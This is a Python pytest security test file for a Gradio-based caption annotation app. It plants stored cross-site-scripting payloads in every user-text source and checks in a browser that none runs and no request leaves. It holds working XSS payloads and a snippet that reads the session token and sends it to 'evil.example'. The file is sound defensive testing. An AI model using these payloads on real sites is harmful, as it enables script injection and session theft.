"""Stored scripts, in a real browser over HTTPS (a team's deployment): text one
user gives is put through every place it reaches another user's screen, by
REST and by import, and no script in it may run, no request may leave for
another site, none may carry the session. The page runs under its own
Content-Security-Policy (app/server/content_policy.py).

`PLACES` lists every component of the page that draws text, and what users'
text reaches it (`SOURCES`); a component added to the page and not listed
fails test_every_component_that_draws_text_is_listed, and a source listed
without a way into the test's store fails it too.

Without the policy and with Gradio's token route open (as on 0fe5269), test_no_stored_script_runs_and_no_request_leaves
fails: the markup a sanitizer would let through runs, reads {"token": ..., "user": ...} from
/gradio_api/token and sends it to another site. With the policy, Compare's message, which drew
captioner names and captions as Markdown, broke it (Gradio's sanitizer stripped the handlers; they are
text now)."""
from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from annotation_support import make_images, write_jsonl
from security_support import ADMIN, self_signed_certificate

# ---------------------------------------------------------------- the payloads

# Each way in gets a number of its own, so that a script that ran says where it came from: __pwned(number)
CAPTION, REFERENCE, ITEM_ID, DATASET, CAPTIONER, USER, SIGN_IN, FLAG, LABEL_STUDIO = range(11, 20)
SCORED, SCORED_NAME, IMPORT_REPORT, UPLOAD, REPORT, TYPED, INJECTED, REVIEW = range(20, 28)


def payload(n: int) -> str:
    """Every shape at once: an inline handler, a script element, SVG, javascript: links (HTML and
    markdown), a frame of its own."""
    return (f'<img src=x onerror=__pwned({n})> <script>__pwned({n})</script> <svg onload=__pwned({n})></svg> '
            f'<a href="javascript:__pwned({n})">a link</a> [a link](javascript:__pwned({n})) '
            f'<iframe srcdoc="<script>parent.__pwned({n})</script>"></iframe>')


def name_payload(n: int) -> str:
    """For a name: no spaces, no ':' (a user name allows neither), at most 200 characters."""
    return f"<img/src=x/onerror=__pwned({n})><svg/onload=__pwned({n})>"


def marker(n: int) -> str:
    return f"__pwned({n})"


CAPTION_TEXT = "a red circle " + payload(CAPTION)
DATASET_NAME = "shapes" + name_payload(DATASET)
ATTACKER = ("ann" + name_payload(USER), "attacker-password-1")
STEAL = (f"__pwned({INJECTED}); fetch('/gradio_api/token').then(r => r.text())"
         ".then(t => { new Image().src = 'https://evil.example/?' + encodeURIComponent(t); })")
INJECTED_HTML = (f'<img src=x onerror="{STEAL}"><svg><animate onbegin="{STEAL}" attributeName=x dur=1s></svg>'
                 f'<a id=cs-injected href="javascript:{STEAL}">a</a>'
                 f'<iframe srcdoc="<script>parent.__pwned({INJECTED})</script>"></iframe>')
COMPARE_NAME = f"<script>__pwned({SCORED_NAME})</script>"  # Compare's NAME=FILE: a NAME without '='
REPORT_NAME = f"other<svg onload=__pwned({REPORT})>"  # a captioner's name in capscope diagnose: no '/'

# Where users' text comes from, and how this test puts a payload there.
SOURCES = {
    "caption": "a caption of an imported file (capscope import, the Admin tab's upload)",
    "reference": "a reference caption of an imported row",
    "item id": "an imported row's id",
    "dataset": "the dataset name an import was given",
    "captioner": "the model that wrote an imported caption (the row's model field): Compare's captioners in the store",
    "user": "a user's name (capscope users add, the Admin tab; a Label Studio import adds label-studio-<e-mail>)",
    "sign-in name": "a name anyone tried at the sign-in form or in REST Basic credentials (the audit log)",
    "flag comment": "a flag's comment, by REST (POST /api/items/{id}/flags) or Annotate's Flag",
    "review comment": "a reviewer's comment on a judgement sent back (POST /api/review/{id}, the Review tab)",
    "label studio": "a Label Studio export (capscope import --label-studio): its annotators' e-mails, its spans",
    "scored file": "a scored captions file (capscope score or diagnose output, a COCO results file scored) "
                   "named in Compare: its NAME, captions, ids, words",
    "import report": "the Admin tab's import report, which quotes a refused row's id",
    "upload": "a file uploaded to the server (HTML, SVG), opened at its address by someone else",
    "diagnose report": "capscope diagnose's index.html and summary.json (GET /api/diagnose)",
}
FIXED = "fixed"  # the code's own text, numbers, metric names: no user's
OWN = "own"      # what the signed-in user typed or uploaded, drawn back to them alone

# Every component of the page that draws text, by tab, type and elem_id (else label, else place among the
# tab's unnamed ones of its type), with the sources whose text it draws. Buttons and accordions are left
# out: their labels are the code's.
PLACES = {
    "page · markdown · #1": (FIXED,),
    "page · markdown · cs-who": ("user",),
    "page · markdown · cs-banner": (FIXED,),
    "Inspect · markdown · cs-token-rule": (FIXED,),
    "Inspect · image · cs-image": (OWN, "scored file"),
    "Inspect · markdown · cs-image-problem": (OWN,),  # why the picture cannot be read (its name may be said)
    "Inspect · markdown · cs-shade-legend-a": (FIXED,),
    "Inspect · markdown · cs-shade-legend-b": (FIXED,),
    "Inspect · dropdown · …or pick a demo scene (clean and polluted caption)": (FIXED,),
    "Inspect · textbox · cs-caption-a": (OWN, "scored file"),  # and, as its label, the captioner's NAME
    "Inspect · textbox · cs-caption-b": (OWN, "scored file"),
    "Inspect · textbox · References (optional, one per line)": (OWN,),
    "Inspect · radio · Show tokens and regions by": (FIXED,),
    "Inspect · image · cs-overlay-a": (OWN, "scored file"),
    "Inspect · highlightedtext · cs-tokens-a": (OWN, "scored file"),
    "Inspect · markdown · #1": (OWN, "scored file"),
    "Inspect · markdown · cs-match-a": (OWN, "scored file"),
    "Inspect · markdown · #2": (OWN, "scored file"),
    "Inspect · image · cs-overlay-b": (OWN, "scored file"),
    "Inspect · highlightedtext · cs-tokens-b": (OWN, "scored file"),
    "Inspect · markdown · #3": (OWN, "scored file"),
    "Inspect · markdown · cs-match-b": (OWN, "scored file"),
    "Inspect · markdown · #4": (OWN, "scored file"),
    "Inspect · dataframe · Global scores": (FIXED,),
    "Inspect · radio · cs-inspect-mode": (FIXED,),
    "Inspect · markdown · cs-inspect-segment": (OWN,),  # the segmenter's name, or why the user's prompt was refused
    "Inspect · markdown · cs-inspect-ties": ("caption",),  # a demo scene's words tied to regions, from the store
    "Inspect · textbox · cs-inspect-box": (OWN,),  # a box the user dragged (static/hotkeys.js), never shown
    "Annotate · dropdown · cs-annotate-dataset": ("dataset",),
    "Annotate · markdown · #1": ("item id", "dataset", "user", "review comment"),
    "Annotate · markdown · cs-saved": ("caption",),
    "Annotate · image · cs-annotate-image": (FIXED,),
    "Annotate · radio · cs-click-mode": (FIXED,),
    "Annotate · gallery · cs-gallery": (FIXED,),
    "Annotate · highlightedtext · cs-annotate-tokens": ("caption",),
    "Annotate · markdown · cs-suggested": ("caption",),
    "Annotate · html · cs-ties": ("caption",),
    "Annotate · checkbox · cs-prelabels": (FIXED,),
    "Annotate · html · #1": (FIXED,),
    "Annotate · dropdown · Kind": (FIXED,),
    "Annotate · textbox · Comment (optional)": (OWN,),
    "Annotate · html · cs-progress-box": (FIXED,),
    "Annotate · markdown · #2": (FIXED,),  # the guidelines: static/guidelines.md, the package's
    "Annotate · number · #1": (FIXED,),
    "Annotate · textbox · cs-annotate-box": (OWN,),  # a box the user dragged (static/hotkeys.js), never shown
    "Explore · dropdown · Dataset": ("dataset",),
    "Explore · dropdown · Status": (FIXED,),
    "Explore · dropdown · Sort by": (FIXED,),
    "Explore · checkbox · Descending": (FIXED,),
    "Explore · dropdown · Annotator": ("user", "label studio"),
    "Explore · textbox · cs-explore-search": (OWN,),
    "Explore · number · Page": (FIXED,),
    "Explore · textbox · Score at least (with a score sort; Enter)": (OWN,),
    "Explore · textbox · Score at most (Enter)": (OWN,),
    "Explore · markdown · cs-explore-total": (FIXED,),
    "Explore · dataframe · cs-explore-table": ("item id", "dataset", "caption"),
    "Explore · markdown · #1": (FIXED,),
    "Explore · markdown · cs-explore-note": ("item id", "user"),
    "Explore · image · cs-explore-gold": (FIXED,),
    "Explore · image · Model: region scores (magenta dashed = not mentioned)": (FIXED,),
    "Explore · highlightedtext · cs-explore-gold-tokens": ("caption",),
    "Explore · highlightedtext · Model: red = unsupported": ("caption",),
    "Explore · number · cs-explore-remove-number": (FIXED,),
    "Explore · button · cs-explore-remove-region": (FIXED,),
    "Benchmark · markdown · #1": (FIXED,),
    "Benchmark · dropdown · Dataset": ("dataset",),
    "Benchmark · slider · cs-bench-limit": (FIXED,),
    "Benchmark · dataframe · cs-bench-figures": (FIXED,),
    "Benchmark · plot · Score distributions": (FIXED,),
    "Benchmark · dataframe · cs-bench-ties": (FIXED,),
    "Benchmark · markdown · #2": (FIXED,),
    "Benchmark · dropdown · cs-people-benchmark": (FIXED,),
    "Benchmark · textbox · cs-people-path": (OWN,),
    "Benchmark · file · …or upload a file (used instead of the path)": (OWN,),
    "Benchmark · checkboxgroup · cs-people-metrics": (FIXED,),
    "Benchmark · number · Bootstrap draws (0: none)": (FIXED,),
    "Benchmark · markdown · cs-people-message": (OWN,),
    "Benchmark · dataframe · cs-people-table": (FIXED,),
    "Benchmark · markdown · cs-people-notes": (FIXED,),
    "Benchmark · image · cs-people-figure": (FIXED,),
    "Benchmark · code · cs-people-text": (OWN,),
    "Benchmark · markdown · #3": (FIXED,),
    "Benchmark · markdown · #4": (FIXED,),  # the agreement's figures
    "Benchmark · dataframe · Per annotator": ("user", "label studio"),
    "Benchmark · dataframe · Annotator pairs (Cohen's κ)": ("user", "label studio"),
    "Benchmark · markdown · #5": (FIXED,),
    "Benchmark · file · Export": ("dataset",),  # the file's name
    "Benchmark · markdown · #6": (FIXED,),  # the release leaderboard's heading
    "Benchmark · dropdown · cs-release-board-path": ("dataset", OWN),  # releases/NAME-VERSION, or a typed path
    "Benchmark · checkboxgroup · cs-release-board-metrics": (FIXED,),
    "Benchmark · number · Bootstrap draws": (FIXED,),
    "Benchmark · markdown · cs-release-board-message": ("dataset", OWN),
    "Benchmark · dataframe · cs-release-board-table": (FIXED,),  # metric names and figures
    "Benchmark · dataframe · cs-release-board-types": (FIXED,),
    "Benchmark · dataframe · cs-release-board-differences": (FIXED,),
    "Admin · markdown · #1": (FIXED,),
    "Admin · textbox · cs-admin-name": (OWN,),
    "Admin · textbox · cs-admin-password": (OWN,),
    "Admin · radio · Role": (FIXED,),
    "Admin · markdown · cs-admin-message": (OWN,),
    "Admin · dataframe · cs-admin-users": ("user", "label studio"),
    "Admin · markdown · #2": (FIXED,),
    "Admin · file · JSONL + images": (OWN,),
    "Admin · radio · Format": (FIXED,),
    "Admin · textbox · Dataset name": (OWN,),
    "Admin · number · Annotators per item": (FIXED,),
    "Admin · markdown · #3": ("import report",),
    "Admin · markdown · #4": (FIXED,),
    "Admin · dropdown · cs-admin-queue-dataset": ("dataset",),
    "Admin · radio · cs-admin-queue-order": (FIXED,),
    "Admin · number · cs-admin-queue-seed": (FIXED,),
    "Admin · markdown · cs-admin-queue-result": ("dataset",),
    "Admin · markdown · cs-quality-intro": (FIXED,),
    "Admin · dropdown · cs-quality-dataset": ("dataset",),
    "Admin · number · cs-quality-rate": (FIXED,),
    "Admin · number · cs-quality-flag": (FIXED,),
    "Admin · checkbox · Show a control's answer after submit": (FIXED,),
    "Admin · textbox · cs-quality-ids": (OWN,),
    "Admin · radio · cs-quality-method": (FIXED,),
    "Admin · markdown · cs-quality-message": ("dataset",),
    "Admin · dataframe · cs-quality-table": ("user",),
    "Admin · plot · cs-quality-plot": ("user",),
    "Admin · markdown · cs-release-intro": (FIXED,),
    "Admin · dropdown · cs-release-dataset": ("dataset",),
    "Admin · textbox · cs-release-version": (OWN,),
    "Admin · textbox · cs-release-licence": (OWN,),
    "Admin · textbox · cs-release-citation": (OWN,),
    "Admin · textbox · cs-release-guidelines": (OWN,),
    "Admin · markdown · cs-release-message": ("dataset",),
    "Admin · dataframe · cs-release-table": ("dataset", "user", "sign-in name"),
    "Admin · file · cs-release-file": ("dataset",),
    "Admin · markdown · #5": (FIXED,),
    "Admin · file · Export": ("dataset",),
    "Admin · markdown · #6": (FIXED,),
    "Admin · dropdown · cs-audit-action": (FIXED,),
    "Admin · textbox · cs-audit-actor": (OWN,),
    "Admin · dataframe · cs-audit": ("user", "sign-in name", "dataset", "label studio"),
    "Admin · file · Audit log": (FIXED,),
    "Admin · markdown · #7": (FIXED,),
    "Admin · dropdown · cs-models-dataset": ("dataset",),
    "Admin · number · cs-models-minutes": (FIXED,),
    "Admin · number · cs-models-steps": (FIXED,),
    "Admin · number · cs-models-holdout": (FIXED,),
    "Admin · checkbox · cs-models-augment": (FIXED,),
    "Admin · dropdown · cs-models-check": ("dataset",),
    "Admin · markdown · cs-models-progress": ("dataset",),
    "Admin · dataframe · cs-models-versions": ("dataset",),
    "Admin · dropdown · cs-models-version": (FIXED,),
    "Admin · markdown · cs-models-result": ("dataset",),
    "Compare · markdown · #1": (FIXED,),
    "Compare · textbox · cs-compare-files": (OWN,),
    "Compare · checkboxgroup · cs-compare-store": ("captioner", "dataset"),
    "Compare · markdown · cs-compare-message": ("scored file", "captioner"),
    "Compare · dataframe · #1": ("scored file", "captioner"),
    "Compare · image · Main scores, 95% intervals": ("scored file", "captioner"),  # names drawn into a PNG
    "Compare · image · Wrong rate by kind of word": ("scored file", "captioner"),
    "Compare · dataframe · #2": ("scored file", "captioner"),
    "Compare · dataframe · cs-compare-words": ("scored file", "captioner"),
    "Compare · dataframe · cs-compare-captions": ("scored file", "captioner"),
    "Review · dropdown · cs-review-switch-dataset": ("dataset",),
    "Review · checkbox · cs-review-switch-on": (FIXED,),
    "Review · markdown · cs-review-settings": ("dataset",),
    "Review · dropdown · cs-review-dataset": ("dataset",),
    "Review · markdown · cs-review-header": ("user", "item id", "dataset", "review comment"),
    "Review · image · cs-review-image": (FIXED,),
    "Review · gallery · cs-review-gallery": (FIXED,),
    "Review · highlightedtext · cs-review-tokens": ("caption",),
    "Review · html · cs-review-diff": ("caption",),
    "Review · textbox · cs-review-comment": (OWN,),
    "Review · markdown · cs-review-status": ("user",),
    "Review · html · #1": (FIXED,),  # the keys
    "Review · html · cs-review-history": ("user", "review comment"),
}
# Sources drawn outside the page's components: where they go instead
OFF_PAGE = {"reference": "Inspect, typed (OWN), and the exports", "flag comment": "the store and the exports "
            "(Explore counts flags)", "upload": "its own address", "diagnose report": "a file of its own, "
            "and /api/diagnose's JSON"}
LAYOUT = {"blocks", "row", "column", "tabs", "tabitem", "form", "group", "state", "browserstate", "timer"}
CODE_LABELS = {"button", "accordion"}  # their text is the code's


def text_places(config: dict) -> list[str]:
    """The `PLACES` key of every component of the page in Gradio's /config that can draw text."""
    components = {c["id"]: c for c in config["components"]}
    keys, unnamed = [], {}

    def walk(node, tab):
        component = components.get(node["id"])
        kind = component["type"] if component else None
        if kind == "tabitem":
            tab = component["props"].get("label")
        if component and kind not in LAYOUT | CODE_LABELS:
            name = component["props"].get("elem_id") or component["props"].get("label")
            if not name:
                unnamed[(tab, kind)] = unnamed.get((tab, kind), 0) + 1
                name = f"#{unnamed[(tab, kind)]}"
            keys.append(f"{tab or 'page'} · {kind} · {name}")
        for child in node.get("children") or []:
            walk(child, tab)

    walk(config["layout"], None)
    return keys


# ---------------------------------------------------------------- the team's server, its store full of payloads

@pytest.fixture(scope="module")
def stored(tmp_path_factory):
    """A team's server over HTTPS whose store holds a payload from every source: an imported dataset (its
    name, row ids, captions, references, the captioner) and a Label Studio export; an annotator named with
    one who labelled and flagged by REST; failed sign-ins by names that are payloads; an uploaded HTML and
    SVG file; scored files for Compare and the report `capscope diagnose` wrote from them."""
    folder = tmp_path_factory.mktemp("stored")
    data = folder / "data"
    patch = pytest.MonkeyPatch()
    for name, value in {"CAPSCOPE_DATA_DIR": data, "CAPSCOPE_CACHE": folder / "cache", "HF_HUB_OFFLINE": "1"}.items():
        patch.setenv(name, str(value))
    try:
        yield from _serve_payloads(folder, data)
    finally:
        patch.undo()


def _serve_payloads(folder: Path, data: Path):
    import httpx

    from capscope.annotation import label_studio
    from capscope.annotation.importer import ImportOptions, import_captions
    from capscope.annotation import review
    from capscope.annotation.users import add_user, get_user
    from capscope.diagnose import diagnose_captioners
    from capscope.server.api import create_app
    from capscope.ui.page import mount_ui
    from ui_support import Served, scored

    key, cert = self_signed_certificate(folder)
    app = create_app(f"sqlite:///{folder / 'team.db'}")
    store, seeded = app.state.store, set()
    add_user(store, *ADMIN, role="admin")
    add_user(store, *ATTACKER)
    seeded.add("user")

    images = data / "images"
    names = make_images(images, 2)
    rows = [{"id": name_payload(ITEM_ID) + f"-{i}", "image": names[i % 2], "caption": CAPTION_TEXT,
             "references": [payload(REFERENCE)], "model": name_payload(CAPTIONER)} for i in range(3)]
    report = import_captions(store, write_jsonl(folder / "rows.jsonl", rows), images,
                             ImportOptions(dataset=DATASET_NAME, annotators_per_item=2, regions="classic",
                                           progress=False))
    assert report.added == 3, report.errors
    seeded |= {"caption", "reference", "item id", "dataset", "captioner"}

    task = {"id": 1, "data": {"capscope_id": rows[2]["id"], "capscope_dataset": DATASET_NAME,
                              "caption": CAPTION_TEXT},
            "annotations": [{"completed_by": {"email": name_payload(LABEL_STUDIO) + "@example.org"},
                             "result": [{"id": "r1", "from_name": label_studio.WORDS, "type": "labels",
                                         "to_name": label_studio.CAPTION,
                                         "value": {"start": 0, "end": 1, "text": payload(LABEL_STUDIO),
                                                   "labels": [label_studio.WRONG]}}]}]}
    assert label_studio.import_export_rows(store, [task], DATASET_NAME).annotations_added == 1
    seeded.add("label studio")

    compare_rows = [scored(name_payload(SCORED) + f"-{i}", str(images / names[i]),
                           f"a <b>red</b> {name_payload(SCORED)} circle", [True, True, False, True], 1.0 + i)
                    for i in range(2)]
    scored_file = write_jsonl(data / "scored.jsonl", compare_rows)
    other_file = write_jsonl(data / "other.jsonl", [{**row, "caption": row["caption"].replace("red", "blue")}
                                                    for row in compare_rows])
    diagnose_captioners({"plain": scored_file, REPORT_NAME: other_file}, data / "report", metrics=["infometic"],
                        draws=10)
    seeded |= {"scored file", "diagnose report"}

    app = mount_ui(app, seed=False)
    with Served(app, ssl_keyfile=str(key), ssl_certfile=str(cert)) as served:
        rest = httpx.Client(base_url=served.url, verify=False, timeout=60, auth=ATTACKER)
        item = rest.get("/api/items/next").json()["item_id"]
        assert rest.put(f"/api/items/{item}/labels", json={"incorrect_tokens": [0, 1], "mentioned_regions": [0],
                                                             "status": "submitted"}).status_code == 200
        assert rest.post(f"/api/items/{item}/flags", json={"kind": "comment", "comment": payload(FLAG)}
                         ).status_code in (200, 201)
        seeded.add("flag comment")
        boss = httpx.Client(base_url=served.url, verify=False, timeout=60, auth=ADMIN)
        # (the dataset's name holds '/': no /api/datasets/{name}/... path reaches it, so turned on in the store)
        review.set_review(store, get_user(store, ADMIN[0]), DATASET_NAME, True)
        second = rest.get("/api/items/next").json()["item_id"]  # judged under review: pending, then sent back
        assert rest.put(f"/api/items/{second}/labels", json={"incorrect_tokens": [0], "mentioned_regions": [],
                                                               "status": "submitted"}).status_code == 200
        pending = boss.get("/api/review/next", params={"dataset": DATASET_NAME}).json()["assignment_id"]
        assert boss.post(f"/api/review/{pending}", json={"decision": "return", "comment": payload(REVIEW)}
                         ).status_code == 200
        assert rest.put(f"/api/items/{second}/labels", json={"incorrect_tokens": [1], "mentioned_regions": [],
                                                               "status": "submitted"}).status_code == 200
        seeded.add("review comment")  # pending again: the Review tab shows the comment it was sent back with
        stranger = httpx.Client(base_url=served.url, verify=False, timeout=60)
        assert stranger.post("/login", data={"username": name_payload(SIGN_IN), "password": "not-the-password-1"}
                             ).status_code in (400, 401)
        assert stranger.get("/api/me", auth=(name_payload(SIGN_IN) + "rest", "not-the-password-1")).status_code == 401
        seeded.add("sign-in name")
        attacker_ui = httpx.Client(base_url=served.url, verify=False, timeout=60)
        assert attacker_ui.post("/login", data=dict(zip(("username", "password"), ATTACKER))).status_code == 200
        uploaded = attacker_ui.post("/gradio_api/upload", files=[
            ("files", ("page.html", f"<html><body><script>parent.__pwned({UPLOAD})</script>"
                                    f"<img src=x onerror=__pwned({UPLOAD})></body></html>", "text/html")),
            ("files", ("picture.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="__pwned({UPLOAD})">'
                                      f"<script>__pwned({UPLOAD})</script></svg>", "image/svg+xml"))])
        assert uploaded.status_code == 200, uploaded.text
        seeded.add("upload")
        import_file = write_jsonl(folder / "refused.jsonl", [{"id": name_payload(IMPORT_REPORT), "image": "gone.png",
                                                             "caption": "a caption"}])
        seeded.add("import report")  # put in through the Admin tab's upload, in the browser, below
        served.seeded, served.data, served.uploaded = seeded, data, uploaded.json()
        served.import_file, served.store = import_file, store
        served.compare_files = f"{COMPARE_NAME}={scored_file}\nother={other_file}"
        yield served


@pytest.mark.slow
def test_every_component_that_draws_text_is_listed(stored):
    import httpx

    client = httpx.Client(base_url=stored.url, verify=False, timeout=60)
    assert client.post("/login", data={"username": ADMIN[0], "password": ADMIN[1]}).status_code == 200
    config = client.get("/config").json()
    places = text_places(config)
    assert len(places) == len(set(places)), "two components with one name: give one an elem_id"
    assert not set(places) - set(PLACES), ("components that draw text and are not in PLACES: say what users' "
                                           f"text reaches them: {sorted(set(places) - set(PLACES))}")
    sources = {s for drawn in PLACES.values() for s in drawn} - {FIXED, OWN}
    assert sources <= set(SOURCES) and set(SOURCES) - sources <= set(OFF_PAGE)
    assert set(SOURCES) <= stored.seeded, f"sources the test puts no payload through: {set(SOURCES) - stored.seeded}"


# ---------------------------------------------------------------- in the browser

def browser_context(chromium, ran: list, **options):
    """A context whose pages report each script that ran (`__pwned`) and each CSP violation."""
    context = chromium.new_context(viewport={"width": 1400, "height": 1000}, ignore_https_errors=True, **options)
    context.expose_function("__pwned", lambda where=None: ran.append(where))
    context.add_init_script("window.__violations = []; document.addEventListener('securitypolicyviolation', "
                            "e => window.__violations.push([e.violatedDirective, e.blockedURI, e.sourceFile, "
                            "e.target?.outerHTML?.slice(0, 120), e.target?.closest?.('[id]')?.id]))")
    return context


def wait_for_text(page, selector: str, text: str, timeout: float = 30.0) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        shown = page.locator(selector).first.inner_text() if page.locator(selector).count() else ""
        if text in shown:
            return shown
        time.sleep(0.3)
    raise AssertionError(f"{text!r} never appeared in {selector}: {shown[:500]!r}")


def click_cell(page, table: str, text: str) -> None:
    cells = page.locator(f"{table} [data-testid^=cell-]")
    found = next(i for i in range(cells.count()) if text in cells.nth(i).inner_text())
    cells.nth(found).click()


@pytest.mark.slow
@pytest.mark.browser
def test_no_stored_script_runs_and_no_request_leaves(stored):
    from ui_support import launched_chromium

    ran, left, sent, seen = [], [], [], {}
    for chromium in launched_chromium():
        context = browser_context(chromium, ran)
        page = context.new_page()
        page.on("request", lambda request: left.append(request.url)
                if not request.url.startswith((stored.url, "data:", "blob:")) else None)
        page.on("request", lambda request: sent.append((request.url, request.post_data or "")))
        page.goto(stored.url + "/")
        page.fill("input[type=text]", ADMIN[0])
        page.fill("input[type=password]", ADMIN[1])
        page.keyboard.press("Enter")
        page.wait_for_selector("#cs-caption-a", timeout=30_000)
        session = [c["value"] for c in context.cookies() if c["name"].startswith("access-token")]
        assert session

        page.get_by_role("tab", name="Annotate").click()
        seen["Annotate"] = wait_for_text(page, "#cs-annotate", marker(CAPTION))

        page.get_by_role("tab", name="Explore").click()
        wait_for_text(page, "#cs-explore-table", marker(ITEM_ID))
        click_cell(page, "#cs-explore-table", marker(ITEM_ID) + ">-2")  # the item Label Studio's annotator judged
        wait_for_text(page, "#cs-explore-gold-tokens", "circle")
        seen["Explore"] = page.inner_text("body")

        page.get_by_role("tab", name="Benchmark").click()
        page.get_by_role("button", name="Refresh agreement").click()
        seen["Benchmark"] = wait_for_text(page, "body", "label-studio-")

        page.get_by_role("tab", name="Admin").click()
        wait_for_text(page, "#cs-audit", marker(SIGN_IN))
        upload = page.locator(".block", has_text="JSONL + images").locator("input[type=file]").last
        upload.set_input_files(str(stored.import_file))  # the Admin tab's import, its report quotes the row's id
        time.sleep(1.0)
        page.get_by_role("button", name="Import", exact=True).click()
        seen["Admin"] = wait_for_text(page, "body", "1 rejected")

        page.get_by_role("tab", name="Review").click()
        seen["Review"] = wait_for_text(page, "#cs-review", marker(REVIEW))

        page.get_by_role("tab", name="Compare").click()
        page.locator("#cs-compare-files textarea").fill(stored.compare_files)
        page.locator("#cs-compare-store label").first.click()  # the captioner in the store
        page.click("#cs-compare-run")
        wait_for_text(page, "#cs-compare-message", "3 captioners")
        click_cell(page, "#cs-compare-words", marker(SCORED))
        wait_for_text(page, "#cs-compare-captions", marker(SCORED))
        seen["Compare"] = page.inner_text("body")
        click_cell(page, "#cs-compare-captions", "circle")  # opens it in Inspect, labelled with its NAME
        seen["Inspect"] = wait_for_text(page, "body", marker(SCORED_NAME))  # caption A's or B's label
        wait_for_text(page, "#cs-tokens-a", "circle", timeout=60)

        page.locator("#cs-caption-b textarea").fill("a caption of my own " + payload(TYPED))  # drawn back to its writer
        page.locator("#cs-caption-b textarea").press("End")
        page.keyboard.type(" ")
        wait_for_text(page, "#cs-tokens-b", marker(TYPED), timeout=60)
        for link in page.locator("a[href^='javascript:']").all():
            link.click(force=True, no_wait_after=True)
        time.sleep(0.5)
        violations = page.evaluate("window.__violations")

        # what a script that got in would do first: read the session through the server
        token = page.evaluate("async () => (await fetch('/gradio_api/token')).status")
        # a sanitizer that let one through: the markup a component would draw, put into the page as it would;
        # its handler takes the session as a stored script would, and sends it away
        page.evaluate("html => { const box = document.createElement('div'); box.innerHTML = html; "
                      "document.querySelector('#cs-tokens-a').append(box); }", INJECTED_HTML)
        page.click("#cs-injected", force=True, no_wait_after=True)
        time.sleep(1.5)
        refused = len(page.evaluate("window.__violations")) - len(violations)
        context.close()

    problems = {"scripts ran (numbers: where they came from)": ran, "requests left for other sites": left,
                "requests carried the session": [url for url, body in sent
                                                 if any(value in url or value in body for value in session)],
                "a script on the page read the session cookie's value (/gradio_api/token)": token != 404,
                "the page broke its own policy (Gradio's code, or users' text that reached HTML)": violations,
                "the policy refused fewer than the 3 injected handlers: is it sent?": refused < 3}
    assert not any(problems.values()), {what: found for what, found in problems.items() if found}
    # the payloads were drawn, as text, where the test expects them (else it would prove nothing)
    expected = {"Annotate": [CAPTION, ITEM_ID, DATASET], "Explore": [CAPTION, ITEM_ID, DATASET],
                "Benchmark": [USER], "Admin": [USER, SIGN_IN, DATASET],
                "Compare": [SCORED, SCORED_NAME, CAPTIONER], "Inspect": [SCORED_NAME], "Review": [REVIEW, USER]}
    missing = {tab: [n for n in numbers if marker(n) not in seen[tab]] for tab, numbers in expected.items()}
    assert not any(missing.values()), f"payloads not drawn where expected: {missing}"


@pytest.mark.slow
@pytest.mark.browser
def test_files_and_reports_run_no_script(stored):
    """What is opened at an address of its own: a file another user uploaded (HTML, SVG: Gradio sends them as
    downloads), the diagnose summary as /api/diagnose sends it, and the report `capscope diagnose` wrote,
    opened from disk (it escapes what it draws, and carries a policy of its own)."""
    from playwright.sync_api import Error as PlaywrightError

    from ui_support import launched_chromium

    ran, texts = [], {}
    for chromium in launched_chromium():
        context = browser_context(chromium, ran, http_credentials={"username": ADMIN[0], "password": ADMIN[1]})
        page = context.new_page()
        page.goto(stored.url + "/")
        page.fill("input[type=text]", ADMIN[0])
        page.fill("input[type=password]", ADMIN[1])
        page.keyboard.press("Enter")
        page.wait_for_selector("#cs-caption-a", timeout=30_000)
        for path in stored.uploaded:  # Gradio sends an HTML file as a download; what it shows runs nothing
            try:
                page.goto(f"{stored.url}/gradio_api/file={path}")
                texts[Path(path).suffix] = "shown"
            except PlaywrightError as err:
                assert "Download is starting" in str(err), err
                texts[Path(path).suffix] = "downloaded"
            time.sleep(1.0)
        page.goto(f"{stored.url}/api/diagnose?folder={stored.data / 'report'}")
        texts["summary"] = page.inner_text("body")
        page.goto((stored.data / "report" / "index.html").as_uri())
        time.sleep(1.0)
        texts["report"] = page.inner_text("body")
        context.close()
    assert ran == [], f"scripts ran (numbers: where they came from): {ran}"
    assert set(texts) >= {".html", ".svg"}, texts
    assert marker(SCORED) in texts["summary"] and marker(REPORT) in texts["summary"]
    assert marker(SCORED) in texts["report"] and marker(REPORT) in texts["report"]
    assert "http-equiv='Content-Security-Policy' content=\"default-src 'none';" in (
        stored.data / "report" / "index.html").read_text()


@pytest.mark.slow
def test_the_stored_text_is_kept_as_it_was_given(stored):
    """Nothing is escaped or stripped on the way in: where it is drawn, it is drawn as text."""
    import httpx

    client = httpx.Client(base_url=stored.url, verify=False, timeout=60, auth=ADMIN)
    rows = [json.loads(line) for line in client.get("/api/export", params={"dataset": DATASET_NAME}).text.splitlines()]
    assert rows and all(row["caption"] == CAPTION_TEXT for row in rows)
    assert json.loads(Path(stored.data / "report" / "summary.json").read_text())
